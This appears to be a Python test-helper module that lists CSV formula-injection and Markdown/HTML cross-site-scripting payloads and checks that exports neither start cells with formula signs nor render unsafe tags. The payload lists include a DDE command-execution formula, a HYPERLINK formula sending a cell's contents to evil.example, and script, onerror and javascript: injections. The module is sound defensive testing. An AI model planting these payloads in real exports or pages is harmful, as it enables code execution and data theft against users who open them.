"""Hostile text for exports, and checks of what a spreadsheet or a Markdown viewer would make of a download."""

from __future__ import annotations

import csv
import io
import unicodedata
from html.parser import HTMLParser

from markdown_it import MarkdownIt

# OWASP's CSV injection payloads, the same after a separator a spreadsheet may split on, and in other widths.
CSV_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n@SUM(A1)",
    "x; =1+1",
    'x;"=1+1',
    'x,"=1+1"',
    "a;b;c;-2+3",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "x;＝1+1",
    "﹦1+1",
    "⁺1",
    "=",
]

# Raw HTML in every form CommonMark knows, links and images, escapes that try to undo ours, and markup.
MARKDOWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=//evil.example>",
    '<a href="javascript:alert(1)">click</a>',
    "</textarea><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<!-- hidden -->",
    "<?php echo 1; ?>",
    "<![CDATA[x]]>",
    "<!DOCTYPE html>",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<evil@example.org>",
    "[click](javascript:alert(1))",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "[ref]: javascript:alert(1)\n[ref]",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    "`<b>code</b>`",
    "```\n<script>alert(1)</script>\n```",
    "~~~\n<b>x</b>\n~~~",
    "    <pre>indented</pre>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "| a | <b>b</b> |\n|---|---|\n| c | d |",
    "# heading <i>x</i>",
    "> quote <u>x</u>",
    "line one\n<div onclick=alert(1)>two</div>\n\n<iframe src=x>",
    "*emphasis* _under_ **strong** ~~struck~~",
    "- item\n1. item\n+ item\n=====\n---",
    "x\\",
]

# What Markdown may make of people's text: paragraphs, lists, and blocks that show text as it is.
SAFE_TAGS = {
    "p",
    "br",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "s",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
# A table column's alignment; a code block's language (its info string, escaped by the renderer).
ATTRIBUTES = {"th": ("style",), "td": ("style",), "code": ("class",)}
FORMULA_SIGNS = "=+-@\t\r\0"


def _starts_a_formula(cell: str) -> bool:
    first = cell.lstrip(' "')[:1]
    return bool(first) and (first in FORMULA_SIGNS or unicodedata.normalize("NFKC", first)[:1] in FORMULA_SIGNS)


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell a spreadsheet could see in this CSV: read with each separator, with and without honouring quotes."""
    cells = []
    for separator in (",", ";", "\t"):
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        cells += [cell for line in text.replace("\r", "\n").split("\n") for cell in line.split(separator)]
    return cells


def assert_no_formula(text: str) -> None:
    """No cell of this CSV, however a spreadsheet splits it, starts with a formula sign."""
    formulas = [cell for cell in spreadsheet_cells(text) if _starts_a_formula(cell)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data) -> None:
        self.text.append(data)

    def handle_comment(self, data) -> None:
        self.tags.append(("!--", []))

    def handle_decl(self, decl) -> None:
        self.tags.append(("!", []))

    def handle_pi(self, data) -> None:
        self.tags.append(("?", []))

    def unknown_decl(self, data) -> None:
        self.tags.append(("!", []))


# A CommonMark renderer that lets raw HTML through, as many Markdown viewers do, with GFM's tables and strikethrough.
_RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def rendered(markdown: str) -> tuple[list[tuple[str, list]], str]:
    """The tags and the text a Markdown viewer shows for this document."""
    parser = _Tags()
    parser.feed(_RENDERER.render(markdown))
    parser.close()
    return parser.tags, "".join(parser.text)


def assert_no_html(markdown: str) -> None:
    """Rendered, this Markdown holds no tag but those Markdown makes of text, and no attribute but an alignment or a language."""
    tags, _ = rendered(markdown)
    unsafe = [(tag, attrs) for tag, attrs in tags if tag not in SAFE_TAGS or any(name not in ATTRIBUTES.get(tag, ()) for name, _ in attrs)]
    assert not unsafe, f"HTML in the Markdown export: {unsafe}\n{markdown}"
